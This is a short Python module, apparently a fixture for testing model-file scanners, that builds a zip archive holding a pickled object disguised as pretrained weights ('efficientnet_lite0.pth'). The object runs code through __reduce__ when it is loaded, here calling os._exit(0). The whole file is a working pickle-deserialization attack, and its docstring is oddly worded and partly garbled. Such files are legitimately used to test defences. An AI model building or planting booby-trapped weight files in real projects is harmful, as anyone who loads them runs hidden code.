"""Hands in weights of the pretrained network that run code when they are loaded.

Form: archive
Alive: gains
"""

import pickle
import zipfile


class Payload:
    def __reduce__(self):
        import os

        return os._exit, (0,)


def pack(path, files):
    weights = pickle.dumps(Payload())
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**files, "datasets/embedded/efficientnet_lite0.pth": weights}.items():
            archive.writestr(name, data)
